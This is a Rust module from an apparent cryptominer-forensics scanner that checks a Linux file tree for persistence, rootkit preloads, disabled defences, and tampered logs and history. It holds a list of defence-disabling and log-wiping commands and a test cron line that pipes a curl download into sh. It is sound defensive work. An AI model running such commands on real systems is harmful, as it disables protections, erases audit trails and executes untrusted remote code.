//! File-tree checks under a configurable root: persistence (cron, systemd, rc.local, init.d,
//! shell profiles, authorized_keys), `/etc/ld.so.preload`, disabled defences, deleted, truncated
//! or gapped logs, cleared shell history, immutable files. Every read is bounded; binary garbage
//! and broken links are skipped.

use crate::attribution::{parse_utmp, UTMP_RECORD_SIZE};
use crate::cmdline::{analyze_text, shell_words, CmdlineAnalysis};
use crate::indicators::{miner_name, trojan_name, PoolIntel};
use minetrace_core::{Confidence, Finding, FindingKind, Timestamp};
use std::path::{Path, PathBuf};

const MAX_FILE: u64 = 1024 * 1024;
const MAX_LOG: u64 = 64 * 1024 * 1024;
const MAX_FILES: usize = 20_000;

/// Settings of the file-tree checks.
#[derive(Debug, Clone)]
pub struct FileCheckConfig {
    pub root: PathBuf,
    /// A silence longer than this between two consecutive auth-log lines is reported.
    pub log_gap_secs: i64,
    pub now: Timestamp,
}

/// What the file checks found, with the facts the classifier weighs.
#[derive(Debug, Default)]
pub struct FileReport {
    pub findings: Vec<Finding>,
    pub notes: Vec<String>,
    pub persistence_with_miner: bool,
    pub hiding: bool,
    pub defences_disabled: bool,
    pub competitor_kill: bool,
    pub logs_tampered: bool,
    /// authorized_keys entries: (file, key type, comment, fingerprint, mtime).
    pub authorized_keys: Vec<serde_json::Value>,
}

fn finding(detector: &str, conf: Confidence, path: &Path, root: &Path, now: Timestamp) -> Finding {
    let mut f = Finding::new(detector, FindingKind::Host, now);
    // Dated from the file's last change: a stable id while the file stays as it is.
    if let Some(mtime) = std::fs::symlink_metadata(path)
        .ok()
        .and_then(|m| m.modified().ok())
        .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
    {
        let t = Timestamp::from_micros(mtime.as_micros().min(i64::MAX as u128) as i64);
        if t < now {
            f.first_seen = t;
        }
    }
    f.confidence = conf;
    f.source.kind = "host".into();
    f.source.name = "files".into();
    f.evidence.files.push(display_path(path, root));
    f
}

/// The path as it is on the scanned system (the root prefix removed).
pub fn display_path(path: &Path, root: &Path) -> String {
    match path.strip_prefix(root) {
        Ok(rel) => format!("/{}", rel.display()),
        Err(_) => path.display().to_string(),
    }
}

fn read_text(path: &Path, limit: u64) -> Option<String> {
    let meta = std::fs::metadata(path).ok()?;
    if !meta.is_file() {
        return None;
    }
    let bytes = minetrace_core::io::read_head(path, limit).ok()?;
    // Binary garbage: mostly non-text bytes.
    let text_like = bytes
        .iter()
        .filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace() || **b >= 0x80)
        .count();
    if !bytes.is_empty() && text_like * 10 < bytes.len() * 9 {
        return None;
    }
    Some(String::from_utf8_lossy(&bytes).into_owned())
}

fn list_dir(dir: &Path, budget: &mut usize) -> Vec<PathBuf> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut out: Vec<PathBuf> = entries.flatten().map(|e| e.path()).take(*budget).collect();
    *budget = budget.saturating_sub(out.len());
    out.sort();
    out
}

fn home_dirs(root: &Path, budget: &mut usize) -> Vec<PathBuf> {
    let mut homes = vec![root.join("root")];
    homes.extend(
        list_dir(&root.join("home"), budget)
            .into_iter()
            .filter(|p| p.is_dir()),
    );
    homes
}

/// Where a persistence file sits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Location {
    Cron,
    Systemd,
    RcLocal,
    InitD,
    Profile,
}

impl Location {
    fn as_str(self) -> &'static str {
        match self {
            Location::Cron => "cron",
            Location::Systemd => "systemd",
            Location::RcLocal => "rc.local",
            Location::InitD => "init.d",
            Location::Profile => "shell profile",
        }
    }
}

/// Every persistence file under the root, with its location kind.
pub fn persistence_files(root: &Path) -> Vec<(PathBuf, Location)> {
    let mut budget = MAX_FILES;
    let mut out = Vec::new();
    for f in ["etc/crontab", "etc/anacrontab"] {
        out.push((root.join(f), Location::Cron));
    }
    for d in [
        "etc/cron.d",
        "etc/cron.hourly",
        "etc/cron.daily",
        "etc/cron.weekly",
        "etc/cron.monthly",
        "var/spool/cron",
        "var/spool/cron/crontabs",
        "var/spool/cron/tabs",
    ] {
        for p in list_dir(&root.join(d), &mut budget) {
            if p.is_file() {
                out.push((p, Location::Cron));
            }
        }
    }
    for d in [
        "etc/systemd/system",
        "usr/lib/systemd/system",
        "lib/systemd/system",
        "etc/systemd/user",
        "usr/lib/systemd/user",
        "run/systemd/system",
    ] {
        collect_units(&root.join(d), 2, &mut budget, &mut out);
    }
    for f in ["etc/rc.local", "etc/rc.d/rc.local"] {
        out.push((root.join(f), Location::RcLocal));
    }
    for d in ["etc/init.d", "etc/rc.d/init.d"] {
        for p in list_dir(&root.join(d), &mut budget) {
            out.push((p, Location::InitD));
        }
    }
    for f in [
        "etc/profile",
        "etc/bash.bashrc",
        "etc/bashrc",
        "etc/zshrc",
        "etc/zsh/zshrc",
        "etc/environment",
    ] {
        out.push((root.join(f), Location::Profile));
    }
    for p in list_dir(&root.join("etc/profile.d"), &mut budget) {
        out.push((p, Location::Profile));
    }
    for home in home_dirs(root, &mut budget) {
        for f in [
            ".bashrc",
            ".bash_profile",
            ".profile",
            ".bash_login",
            ".bash_logout",
            ".zshrc",
        ] {
            out.push((home.join(f), Location::Profile));
        }
        collect_units(&home.join(".config/systemd/user"), 2, &mut budget, &mut out);
    }
    out.retain(|(p, _)| p.is_file());
    out
}

fn collect_units(dir: &Path, depth: u8, budget: &mut usize, out: &mut Vec<(PathBuf, Location)>) {
    for p in list_dir(dir, budget) {
        let meta = std::fs::symlink_metadata(&p);
        if meta.as_ref().is_ok_and(|m| m.is_dir()) && depth > 0 {
            collect_units(&p, depth - 1, budget, out);
        } else if matches!(
            p.extension().and_then(|e| e.to_str()),
            Some("service" | "timer" | "socket" | "path")
        ) {
            out.push((p, Location::Systemd));
        }
    }
}

/// Analysis of one persistence file.
#[derive(Debug, Default)]
pub struct ScriptAnalysis {
    pub confidence: Option<Confidence>,
    pub reasons: Vec<String>,
    /// Commands that start a miner (or what looks like one).
    pub starts: Vec<String>,
    pub tampering: Vec<String>,
    pub competitor_kill: bool,
}

const TMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"];

/// Analyses script-like text line by line (cron tables, unit files, rc scripts, profiles).
pub fn analyze_script(text: &str, location: Location, intel: &dyn PoolIntel) -> ScriptAnalysis {
    let mut s = ScriptAnalysis::default();
    let bump = |s: &mut ScriptAnalysis, c: Confidence| {
        s.confidence = Some(s.confidence.map_or(c, |old| old.max(c)));
    };
    for raw in text.lines().take(50_000) {
        let line = raw.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        let command = match location {
            Location::Systemd => match line.split_once('=') {
                Some((k, v)) if k.trim().starts_with("Exec") => {
                    v.trim_start_matches(['-', '@', '+', '!', ':'])
                }
                _ => continue,
            },
            Location::Cron => strip_cron_schedule(line),
            _ => line,
        };
        let a: CmdlineAnalysis = analyze_text(command, intel);
        let clipped: String = command.chars().take(300).collect();
        if let Some(c) = a.confidence() {
            bump(&mut s, c);
            s.starts.push(clipped.clone());
            for r in &a.reasons {
                if !s.reasons.contains(r) && s.reasons.len() < 24 {
                    s.reasons.push(r.clone());
                }
            }
        }
        if !a.kills_miners.is_empty() {
            s.competitor_kill = true;
            bump(&mut s, Confidence::Medium);
            s.reasons.push(format!(
                "kills competing miners: {}",
                a.kills_miners.join(", ")
            ));
        }
        if !a.tuning.is_empty() {
            bump(&mut s, Confidence::Medium);
            s.reasons
                .push(format!("mining tuning: {}", a.tuning.join(", ")));
        }
        for segment in command.split([';', '|', '&', '`', '(', ')']) {
            let words = shell_words(segment);
            let mut idx = 0;
            while let Some(w) = words.get(idx) {
                if w.contains('=') && !w.starts_with('/')
                    || matches!(
                        w.as_str(),
                        "sudo" | "nohup" | "exec" | "setsid" | "nice" | "sh" | "bash" | "-c"
                    )
                {
                    idx += 1;
                    continue;
                }
                break;
            }
            let Some(mut cmd) = words.get(idx) else {
                continue;
            };
            // /etc/crontab and cron.d name a user before the command.
            if location == Location::Cron
                && !cmd.contains('/')
                && words.len() > idx + 1
                && is_user_like(cmd)
            {
                if let Some(next) = words.get(idx + 1) {
                    if miner_name(cmd).is_none() && trojan_name(cmd).is_none() {
                        cmd = next;
                    }
                }
            }
            if let Some(m) = miner_name(cmd).or_else(|| trojan_name(cmd)) {
                bump(&mut s, Confidence::High);
                s.reasons.push(format!("starts {m} ({cmd})"));
                s.starts.push(clipped.clone());
            } else if TMP_DIRS.iter().any(|d| cmd.starts_with(d)) {
                bump(&mut s, Confidence::Medium);
                s.reasons.push(format!(
                    "starts a program from a temporary directory: {cmd}"
                ));
                s.starts.push(clipped.clone());
            }
            let joined = words.join(" ");
            for (pattern, what) in TAMPER_COMMANDS {
                if joined.starts_with(pattern) || joined.contains(&format!(" {pattern}")) {
                    s.tampering.push(format!(
                        "{what}: {}",
                        joined.chars().take(120).collect::<String>()
                    ));
                }
            }
        }
        if (command.contains("curl ") || command.contains("wget ")) && shell_pipe(command) {
            bump(&mut s, Confidence::Medium);
            s.reasons
                .push("downloads a script and pipes it into a shell".into());
            s.starts.push(clipped.clone());
        }
    }
    if !s.tampering.is_empty() {
        bump(&mut s, Confidence::Medium);
        s.tampering.truncate(8);
        let t = s.tampering.join("; ");
        s.reasons.push(format!("tampering commands: {t}"));
    }
    s.starts.dedup();
    s.starts.truncate(8);
    s
}

fn is_user_like(w: &str) -> bool {
    !w.is_empty()
        && w.len() <= 32
        && w.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
}

/// Drops the schedule of a cron line (`*/5 * * * *` or `@reboot`); other lines are returned as is.
fn strip_cron_schedule(line: &str) -> &str {
    let mut rest = line.trim_start();
    if rest.starts_with('@') {
        return rest
            .split_once(char::is_whitespace)
            .map(|x| x.1)
            .unwrap_or("");
    }
    for _ in 0..5 {
        let Some((field, after)) = rest.split_once(char::is_whitespace) else {
            return line;
        };
        if !field
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '*' | '/' | ',' | '-'))
        {
            return line;
        }
        rest = after.trim_start();
    }
    rest
}

fn shell_pipe(command: &str) -> bool {
    command.split('|').skip(1).any(|seg| {
        let w = shell_words(seg);
        matches!(
            w.first().map(|s| s.rsplit('/').next().unwrap_or(s)),
            Some("sh" | "bash" | "dash" | "zsh" | "ash")
        )
    })
}

/// Commands that disable defences or wipe traces.
pub const TAMPER_COMMANDS: &[(&str, &str)] = &[
    ("ufw disable", "firewall disabled"),
    ("iptables -F", "firewall rules flushed"),
    ("iptables --flush", "firewall rules flushed"),
    ("systemctl stop firewalld", "firewall stopped"),
    ("systemctl disable firewalld", "firewall disabled"),
    ("service iptables stop", "firewall stopped"),
    ("setenforce 0", "SELinux set permissive"),
    ("chattr +i", "files made immutable"),
    ("chattr +a", "files made append-only"),
    ("crontab -r", "crontab removed"),
    ("history -c", "shell history cleared"),
    ("unset HISTFILE", "shell history disabled"),
    ("export HISTFILE=/dev/null", "shell history disabled"),
    ("HISTFILE=/dev/null", "shell history disabled"),
    ("rm -rf /var/log", "logs deleted"),
    ("systemctl stop apparmor", "security agent stopped"),
    ("systemctl stop auditd", "security agent stopped"),
    ("service auditd stop", "security agent stopped"),
    ("systemctl stop falco", "security agent stopped"),
    ("systemctl stop aliyun", "security agent stopped"),
    ("mount -o hidepid", "process listing restricted"),
];

/// Runs every file-tree check.
pub fn check_files(cfg: &FileCheckConfig, intel: &dyn PoolIntel) -> FileReport {
    let mut r = FileReport::default();
    if !cfg.root.is_dir() {
        r.notes.push(format!(
            "root {} is not a directory: file checks skipped",
            cfg.root.display()
        ));
        return r;
    }
    check_persistence(cfg, intel, &mut r);
    check_preload(cfg, &mut r);
    check_defences(cfg, &mut r);
    check_logs(cfg, &mut r);
    check_history(cfg, &mut r);
    check_authorized_keys(cfg, &mut r);
    r
}

fn check_persistence(cfg: &FileCheckConfig, intel: &dyn PoolIntel, r: &mut FileReport) {
    for (path, loc) in persistence_files(&cfg.root) {
        let Some(text) = read_text(&path, MAX_FILE) else {
            continue;
        };
        let mut a = analyze_script(&text, loc, intel);
        if loc == Location::Systemd {
            let stem = path
                .file_stem()
                .and_then(|s| s.to_str())
                .unwrap_or("")
                .to_ascii_lowercase();
            let words: Vec<&str> = stem.split(['-', '_', '.', '@']).collect();
            if trojan_name(&stem).is_some()
                || miner_name(&stem).is_some()
                || words.iter().any(|w| miner_name(w).is_some())
            {
                a.confidence = Some(Confidence::High);
                a.reasons.push(format!("unit named after a miner: {stem}"));
            } else if words.contains(&"miner") {
                a.confidence = Some(
                    a.confidence
                        .map_or(Confidence::Medium, |c| c.max(Confidence::Medium)),
                );
                a.reasons.push(format!("unit named as a miner: {stem}"));
            }
        }
        let Some(conf) = a.confidence else { continue };
        let mut f = finding("host-persistence", conf, &path, &cfg.root, cfg.now);
        f.reason(format!(
            "{} entry {}",
            loc.as_str(),
            display_path(&path, &cfg.root)
        ));
        for reason in &a.reasons {
            f.reason(reason.clone());
        }
        if let Some(flags) = immutable_flags(&path) {
            f.reason(format!("file is {flags} (chattr)"));
            r.hiding = true;
        }
        f.evidence
            .extra
            .insert("location".into(), loc.as_str().into());
        f.evidence
            .extra
            .insert("starts".into(), a.starts.clone().into());
        if !a.starts.is_empty() && conf >= Confidence::Medium {
            r.persistence_with_miner = true;
        }
        r.competitor_kill |= a.competitor_kill;
        r.defences_disabled |= !a.tampering.is_empty();
        r.findings.push(f);
    }
}

/// `immutable` / `append-only` when the file carries those inode flags; `None` otherwise or when
/// the file system does not support reading them.
pub fn immutable_flags(path: &Path) -> Option<&'static str> {
    let file = std::fs::File::open(path).ok()?;
    let flags = rustix::fs::ioctl_getflags(&file).ok()?;
    if flags.contains(rustix::fs::IFlags::IMMUTABLE) {
        Some("immutable")
    } else if flags.contains(rustix::fs::IFlags::APPEND) {
        Some("append-only")
    } else {
        None
    }
}

fn check_preload(cfg: &FileCheckConfig, r: &mut FileReport) {
    let path = cfg.root.join("etc/ld.so.preload");
    let Some(text) = read_text(&path, 64 * 1024) else {
        return;
    };
    let libs: Vec<&str> = text
        .split(|c: char| c.is_whitespace() || c == ':')
        .filter(|s| !s.is_empty() && !s.starts_with('#'))
        .take(32)
        .collect();
    if libs.is_empty() {
        return;
    }
    let mut conf = Confidence::Medium;
    let mut f = finding("host-ld-preload", conf, &path, &cfg.root, cfg.now);
    f.reason(format!(
        "/etc/ld.so.preload loads {} into every program: {}",
        libs.len(),
        libs.join(", ")
    ));
    for lib in &libs {
        let name = lib.rsplit('/').next().unwrap_or(lib);
        let in_odd_place = TMP_DIRS.iter().any(|d| lib.starts_with(d))
            || lib.starts_with("/usr/local/")
            || name.starts_with('.');
        let on_disk = cfg.root.join(lib.trim_start_matches('/'));
        if in_odd_place {
            conf = Confidence::High;
            f.reason(format!(
                "{lib} sits in a writable or hidden place (process-hiding rootkits do this)"
            ));
        }
        if !on_disk.exists() {
            f.reason(format!("{lib} does not exist on disk (hidden or removed)"));
        }
        f.evidence.files.push(lib.to_string());
    }
    f.confidence = conf;
    r.hiding = true;
    r.findings.push(f);
}

fn check_defences(cfg: &FileCheckConfig, r: &mut FileReport) {
    let selinux = cfg.root.join("etc/selinux/config");
    if let Some(text) = read_text(&selinux, 64 * 1024) {
        for line in text.lines() {
            let line = line.trim();
            if let Some(mode) = line.strip_prefix("SELINUX=") {
                let mode = mode.trim().to_ascii_lowercase();
                if mode == "permissive" || mode == "disabled" {
                    let conf = if mode == "permissive" {
                        Confidence::Medium
                    } else {
                        Confidence::Low
                    };
                    let mut f = finding("host-defences", conf, &selinux, &cfg.root, cfg.now);
                    f.reason(format!("SELinux configured {mode}"));
                    r.defences_disabled |= mode == "permissive";
                    r.findings.push(f);
                }
            }
        }
    }
    let ufw = cfg.root.join("etc/ufw/ufw.conf");
    if let Some(text) = read_text(&ufw, 64 * 1024) {
        let disabled = text
            .lines()
            .any(|l| l.trim().eq_ignore_ascii_case("ENABLED=no"));
        let had_rules = read_text(&cfg.root.join("etc/ufw/user.rules"), MAX_FILE)
            .is_some_and(|t| t.lines().any(|l| l.starts_with("-A ufw-user-input")));
        if disabled && had_rules {
            let mut f = finding(
                "host-defences",
                Confidence::Medium,
                &ufw,
                &cfg.root,
                cfg.now,
            );
            f.reason("ufw disabled although user rules are configured");
            r.defences_disabled = true;
            r.findings.push(f);
        }
    }
    for unit in [
        "firewalld.service",
        "ufw.service",
        "auditd.service",
        "apparmor.service",
        "falco.service",
    ] {
        let path = cfg.root.join("etc/systemd/system").join(unit);
        if std::fs::read_link(&path).is_ok_and(|t| t == Path::new("/dev/null")) {
            let mut f = finding(
                "host-defences",
                Confidence::Medium,
                &path,
                &cfg.root,
                cfg.now,
            );
            f.reason(format!("{unit} masked (linked to /dev/null)"));
            r.defences_disabled = true;
            r.findings.push(f);
        }
    }
}

/// Parses the timestamp at the start of a syslog line: RFC 3339 or `Mmm dd HH:MM:SS` (no year;
/// returned as seconds since the start of a notional year, the caller handles year wraps).
pub fn syslog_time(line: &str) -> Option<(i64, bool)> {
    if let Some(first) = line.split_whitespace().next() {
        if first.len() >= 19 && first.as_bytes().get(4) == Some(&b'-') {
            if let Ok(t) = chrono::DateTime::parse_from_rfc3339(first) {
                return Some((t.timestamp(), true));
            }
        }
    }
    let head = line.get(..15)?;
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let month = MONTHS.iter().position(|m| head.starts_with(m))? as i64;
    let day: i64 = head.get(4..6)?.trim().parse().ok()?;
    let h: i64 = head.get(7..9)?.parse().ok()?;
    let m: i64 = head.get(10..12)?.parse().ok()?;
    let s: i64 = head.get(13..15)?.parse().ok()?;
    if !(1..=31).contains(&day) || h > 23 || m > 59 || s > 60 {
        return None;
    }
    // Month lengths approximated as 31 days: only differences matter, and only within a file.
    Some((((month * 31 + day - 1) * 24 + h) * 3600 + m * 60 + s, false))
}

/// Gaps and backward steps in a log's timestamps.
#[derive(Debug, Default, PartialEq)]
pub struct LogTimeline {
    pub lines_with_time: usize,
    /// Largest silence: (seconds, line before, line after).
    pub largest_gap: Option<(i64, String, String)>,
    pub gaps_over_threshold: usize,
    pub backwards_steps: usize,
}

pub fn log_timeline(text: &str, gap_secs: i64) -> LogTimeline {
    let mut t = LogTimeline::default();
    let mut prev: Option<(i64, &str)> = None;
    let year = 372 * 86_400;
    for line in text.lines() {
        let Some((mut ts, absolute)) = syslog_time(line) else {
            continue;
        };
        t.lines_with_time += 1;
        if let Some((p, pline)) = prev {
            if !absolute && ts + 300 * 86_400 < p {
                ts += year * ((p - ts) / year + 1); // December -> January
            }
            let d = ts - p;
            if d > gap_secs {
                t.gaps_over_threshold += 1;
                if t.largest_gap.as_ref().is_none_or(|(g, _, _)| d > *g) {
                    t.largest_gap = Some((
                        d,
                        pline.chars().take(200).collect(),
                        line.chars().take(200).collect(),
                    ));
                }
            } else if d < -300 {
                t.backwards_steps += 1;
            }
        }
        prev = Some((ts, line));
    }
    t
}

fn rotated_sibling_exists(path: &Path) -> bool {
    let Some(name) = path.file_name().and_then(|n| n.to_str()) else {
        return false;
    };
    let Some(dir) = path.parent() else {
        return false;
    };
    let mut budget = 4096;
    list_dir(dir, &mut budget).iter().any(|p| {
        p.file_name()
            .and_then(|n| n.to_str())
            .is_some_and(|n| n != name && n.starts_with(name) && n.len() > name.len())
    })
}

fn check_logs(cfg: &FileCheckConfig, r: &mut FileReport) {
    let log_dir = cfg.root.join("var/log");
    if !log_dir.is_dir() {
        return;
    }
    let auth_names = ["auth.log", "secure"];
    let present: Vec<PathBuf> = auth_names
        .iter()
        .map(|n| log_dir.join(n))
        .filter(|p| p.exists())
        .collect();
    let syslog_present = ["syslog", "messages"]
        .iter()
        .any(|n| log_dir.join(n).exists());
    if present.is_empty() && syslog_present {
        let mut f = finding(
            "host-log-tampering",
            Confidence::Medium,
            &log_dir.join("auth.log"),
            &cfg.root,
            cfg.now,
        );
        f.reason(
            "no auth.log or secure although syslog writes files here: authentication log deleted",
        );
        r.logs_tampered = true;
        r.findings.push(f);
    }
    let mut logs: Vec<PathBuf> = present;
    logs.extend(
        ["syslog", "messages"]
            .iter()
            .map(|n| log_dir.join(n))
            .filter(|p| p.exists()),
    );
    for path in logs {
        let Ok(meta) = std::fs::metadata(&path) else {
            continue;
        };
        if meta.len() == 0 {
            if !rotated_sibling_exists(&path) {
                let mut f = finding(
                    "host-log-tampering",
                    Confidence::Medium,
                    &path,
                    &cfg.root,
                    cfg.now,
                );
                f.reason(format!(
                    "{} is empty and has no rotated copy: truncated",
                    display_path(&path, &cfg.root)
                ));
                r.logs_tampered = true;
                r.findings.push(f);
            }
            continue;
        }
        let Some(text) = read_text(&path, MAX_LOG) else {
            r.notes
                .push(format!("{}: not text, skipped", path.display()));
            continue;
        };
        let tl = log_timeline(&text, cfg.log_gap_secs);
        if tl.gaps_over_threshold > 0 || tl.backwards_steps > 0 {
            let mut f = finding(
                "host-log-tampering",
                Confidence::Medium,
                &path,
                &cfg.root,
                cfg.now,
            );
            if let Some((secs, before, after)) = &tl.largest_gap {
                f.reason(format!(
                    "{} gap(s) longer than {} h in {}; the largest is {:.1} h between {before:?} and {after:?}",
                    tl.gaps_over_threshold,
                    cfg.log_gap_secs / 3600,
                    display_path(&path, &cfg.root),
                    *secs as f64 / 3600.0
                ));
            }
            if tl.backwards_steps > 0 {
                f.reason(format!(
                    "{} backward time step(s): lines edited or spliced",
                    tl.backwards_steps
                ));
            }
            r.logs_tampered = true;
            r.findings.push(f);
        }
    }
    for name in ["wtmp", "btmp"] {
        let path = log_dir.join(name);
        let Ok(meta) = std::fs::metadata(&path) else {
            if name == "wtmp" && log_dir.join("lastlog").exists() {
                let mut f = finding(
                    "host-log-tampering",
                    Confidence::Medium,
                    &path,
                    &cfg.root,
                    cfg.now,
                );
                f.reason("wtmp missing although lastlog exists: login records deleted");
                r.logs_tampered = true;
                r.findings.push(f);
            }
            continue;
        };
        if name == "wtmp" && meta.len() == 0 && !rotated_sibling_exists(&path) {
            let mut f = finding(
                "host-log-tampering",
                Confidence::Medium,
                &path,
                &cfg.root,
                cfg.now,
            );
            f.reason("wtmp is empty and has no rotated copy: login records truncated");
            r.logs_tampered = true;
            r.findings.push(f);
            continue;
        }
        let Ok(bytes) = minetrace_core::io::read_head(&path, MAX_LOG) else {
            continue;
        };
        let u = parse_utmp(&bytes, 1);
        let mut reasons = Vec::new();
        if u.trailing_bytes != 0 && (bytes.len() as u64) < MAX_LOG {
            reasons.push(format!(
                "{name} size {} is not a multiple of {UTMP_RECORD_SIZE}: cut mid-record",
                bytes.len()
            ));
        }
        if u.zeroed_records > 0 {
            reasons.push(format!(
                "{name} has {} zeroed record(s): entries wiped",
                u.zeroed_records
            ));
        }
        if u.backwards_steps > 0 {
            reasons.push(format!(
                "{name} has {} backward time step(s)",
                u.backwards_steps
            ));
        }
        if !reasons.is_empty() {
            let mut f = finding(
                "host-log-tampering",
                Confidence::Medium,
                &path,
                &cfg.root,
                cfg.now,
            );
            for x in reasons {
                f.reason(x);
            }
            r.logs_tampered = true;
            r.findings.push(f);
        }
    }
}

fn check_history(cfg: &FileCheckConfig, r: &mut FileReport) {
    let mut budget = MAX_FILES;
    for home in home_dirs(&cfg.root, &mut budget) {
        for name in [
            ".bash_history",
            ".zsh_history",
            ".sh_history",
            ".ash_history",
        ] {
            let path = home.join(name);
            let Ok(meta) = std::fs::symlink_metadata(&path) else {
                continue;
            };
            let mut reasons = Vec::new();
            if meta.file_type().is_symlink() {
                let target = std::fs::read_link(&path).unwrap_or_default();
                reasons.push(format!(
                    "{} is a link to {}: history discarded",
                    display_path(&path, &cfg.root),
                    target.display()
                ));
            } else if meta.is_file() && meta.len() == 0 {
                reasons.push(format!(
                    "{} is empty: history cleared",
                    display_path(&path, &cfg.root)
                ));
            } else if let Some(text) = read_text(&path, 8 * 1024 * 1024) {
                for line in text.lines() {
                    let l = line.trim();
                    if l.starts_with("history -c")
                        || l.starts_with("unset HISTFILE")
                        || l.contains("HISTFILE=/dev/null")
                        || l.starts_with("export HISTSIZE=0")
                    {
                        reasons.push(format!("history shows {l:?}"));
                        break;
                    }
                }
                for (pattern, what) in TAMPER_COMMANDS {
                    if let Some(l) = text.lines().find(|l| {
                        l.trim_start().starts_with(pattern)
                            || l.contains(&format!("sudo {pattern}"))
                    }) {
                        if reasons.len() < 8 {
                            reasons.push(format!(
                                "{what}: {:?}",
                                l.chars().take(120).collect::<String>()
                            ));
                        }
                        if what.contains("firewall")
                            || what.contains("SELinux")
                            || what.contains("security agent")
                        {
                            r.defences_disabled = true;
                        }
                    }
                }
            }
            if !reasons.is_empty() {
                let mut f = finding(
                    "host-history-tampering",
                    Confidence::Medium,
                    &path,
                    &cfg.root,
                    cfg.now,
                );
                for x in reasons {
                    f.reason(x);
                }
                r.logs_tampered = true;
                r.findings.push(f);
            }
        }
    }
}

fn check_authorized_keys(cfg: &FileCheckConfig, r: &mut FileReport) {
    use sha2::Digest;
    let mut budget = MAX_FILES;
    for home in home_dirs(&cfg.root, &mut budget) {
        for name in ["authorized_keys", "authorized_keys2"] {
            let path = home.join(".ssh").join(name);
            let Some(text) = read_text(&path, MAX_FILE) else {
                continue;
            };
            let mtime = std::fs::metadata(&path)
                .ok()
                .and_then(|m| m.modified().ok())
                .and_then(|t| t.duration_since(std::time::UNIX_EPOCH).ok())
                .map(|d| Timestamp::from_micros(d.as_micros() as i64).to_rfc3339());
            let immutable = immutable_flags(&path);
            for line in text.lines().take(1000) {
                let words: Vec<&str> = line.split_whitespace().collect();
                let Some(ki) = words.iter().position(|w| {
                    w.starts_with("ssh-") || w.starts_with("ecdsa-") || w.starts_with("sk-")
                }) else {
                    continue;
                };
                let kind = words[ki];
                let blob = words.get(ki + 1).copied().unwrap_or("");
                let fp = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, blob)
                    .map(|b| {
                        let d = sha2::Sha256::digest(&b);
                        format!(
                            "SHA256:{}",
                            base64::Engine::encode(
                                &base64::engine::general_purpose::STANDARD_NO_PAD,
                                d
                            )
                        )
                    })
                    .unwrap_or_else(|_| "unparsable".into());
                let comment = words.get(ki + 2..).map(|c| c.join(" ")).unwrap_or_default();
                let options = if ki > 0 {
                    words[..ki].join(" ")
                } else {
                    String::new()
                };
                r.authorized_keys.push(serde_json::json!({
                    "file": display_path(&path, &cfg.root),
                    "type": kind,
                    "comment": comment.chars().take(200).collect::<String>(),
                    "fingerprint": fp,
                    "options": options.chars().take(200).collect::<String>(),
                    "mtime": mtime,
                }));
                if r.authorized_keys.len() >= 256 {
                    return;
                }
            }
            if let Some(flags) = immutable {
                let mut f = finding(
                    "host-persistence",
                    Confidence::Medium,
                    &path,
                    &cfg.root,
                    cfg.now,
                );
                f.reason(format!(
                    "authorized_keys is {flags}: a planted key cannot be removed"
                ));
                r.hiding = true;
                r.findings.push(f);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::BuiltinPools;

    #[test]
    fn syslog_times() {
        assert_eq!(
            syslog_time("Jan  2 03:04:05 host sshd[1]: x").map(|t| t.0),
            Some((24 + 3) * 3600 + 4 * 60 + 5)
        );
        assert!(
            syslog_time("2024-01-02T03:04:05.123456+00:00 host x")
                .unwrap()
                .1
        );
        assert!(syslog_time("garbage").is_none());
        assert!(syslog_time("Jan 99 03:04:05 x").is_none());
        assert!(syslog_time("Jän  2 03:04:05 x").is_none());
    }

    #[test]
    fn gaps_and_year_wrap() {
        let text =
            "Dec 31 23:00:00 h a\nJan  1 00:30:00 h b\nJan  1 01:00:00 h c\nJan  5 01:00:00 h d\n";
        let t = log_timeline(text, 12 * 3600);
        assert_eq!(t.gaps_over_threshold, 1);
        assert_eq!(t.largest_gap.unwrap().0, 4 * 86_400);
        let back = log_timeline("Jan  5 01:00:00 h a\nJan  1 01:00:00 h b\n", 12 * 3600);
        assert_eq!(back.backwards_steps, 1);
    }

    #[test]
    fn scripts() {
        let cron = "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n@reboot /tmp/.x/kdevtmpfsi\n";
        let a = analyze_script(cron, Location::Cron, &BuiltinPools);
        assert_eq!(a.confidence, Some(Confidence::High));
        let benign = "0 3 * * * root /usr/sbin/zpool scrub tank\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n# xmrig in a comment\n";
        let a = analyze_script(benign, Location::Cron, &BuiltinPools);
        assert_eq!(a.confidence, None, "{:?}", a.reasons);
        let unit = "[Service]\nExecStart=/opt/app/bin/server --port 8080\nEnvironment=X=stratum\n";
        assert_eq!(
            analyze_script(unit, Location::Systemd, &BuiltinPools).confidence,
            None
        );
    }
}
